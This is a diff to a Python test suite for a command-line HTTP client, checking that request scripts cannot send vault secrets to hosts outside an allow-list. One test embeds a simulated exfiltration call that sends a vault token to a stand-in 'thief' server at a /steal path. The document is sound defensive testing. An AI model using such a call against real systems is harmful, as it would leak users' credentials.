@@ -103,6 +103,15 @@ def _everything(result: CliResult, tmp_path: Path) -> str:
     return "\n".join(texts)
 
 
+def _assert_refused(result: CliResult, type_: str, kind: str, to: str, code: int) -> None:
+    """The attack request failed with the allow-list's refusal naming the host, and the run exit code."""
+    error = result.json["executions"][0]["error"]
+    assert error is not None, result
+    assert (error["type"], error["kind"]) == (type_, kind), error
+    assert f"secret 'token' may only be sent to 127.0.0.1, not to {to}" in error["message"], error
+    assert result.code == code, result
+
+
 def _assert_no_leak(result: CliResult, tmp_path: Path, server: RecordingServer, thief: Thief | None) -> None:
     """No secret in any output, none at the thief, no file, and the ordinary request went out."""
     everything = _everything(result, tmp_path)
@@ -163,13 +172,14 @@ def test_pre_request_script_points_the_request_elsewhere_with_a_placeholder(
 def test_placeholder_in_a_callback_request_from_a_post_response_script(
     run_cli: RunCli, tmp_path: Path, recording_server: RecordingServer, thief: Thief, vault_token: str
 ) -> None:
-    """The callback form swallows the error: the secret still does not leave, the run goes on."""
-    post = (f'def cb(err, res):\n    print("refused" if err else "sent")\n'
+    """The callback form hands the refusal to the script: the secret does not leave, the run goes on."""
+    post = (f'def cb(err, res):\n    print("refused:", err) if err else print("sent")\n'
             f'rq.sendRequest("{thief.url}/steal?k={{{{vault:token}}}}", cb)')
     result = _attack(run_cli, tmp_path, recording_server, post=post)
     _assert_no_leak(result, tmp_path, recording_server, thief)
     assert thief.seen == []
-    assert result.json["executions"][0]["console"] == ["refused"]
+    [line] = result.json["executions"][0]["console"]
+    assert line.startswith("refused:") and "may only be sent to 127.0.0.1, not to 127.0.0.2" in line, line
     assert result.json["executions"][0]["error"]["type"] == "vault"  # caught or not, the attempt is reported
     assert result.code == 5, result
 
@@ -185,6 +195,8 @@ def test_send_request_with_a_value_read_from_the_vault(
     result = _attack(run_cli, tmp_path, recording_server, pre=pre)
     _assert_no_leak(result, tmp_path, recording_server, thief)
     assert thief.seen == []
+    _assert_refused(result, "script", "runtime", "127.0.0.2", 4)
+    assert result.json["executions"][0]["error"]["line"] == 2
 
 
 def test_request_url_rewritten_with_a_value_read_from_the_vault(
@@ -194,6 +206,7 @@ def test_request_url_rewritten_with_a_value_read_from_the_vault(
     result = _attack(run_cli, tmp_path, recording_server, pre=pre)
     _assert_no_leak(result, tmp_path, recording_server, thief)
     assert thief.seen == []
+    _assert_refused(result, "vault", "secret-not-allowed", "127.0.0.2", 5)
 
 
 def test_encoded_value_in_a_header_to_localhost(
@@ -207,6 +220,7 @@ def test_encoded_value_in_a_header_to_localhost(
     result = _attack(run_cli, tmp_path, recording_server, pre=pre)
     _assert_no_leak(result, tmp_path, recording_server, None)
     assert "/steal" not in recording_server.requests.paths
+    _assert_refused(result, "vault", "secret-not-allowed", "localhost", 5)
 
 
 # --- redaction of what scripts print, test and export ----------------------------------------------------
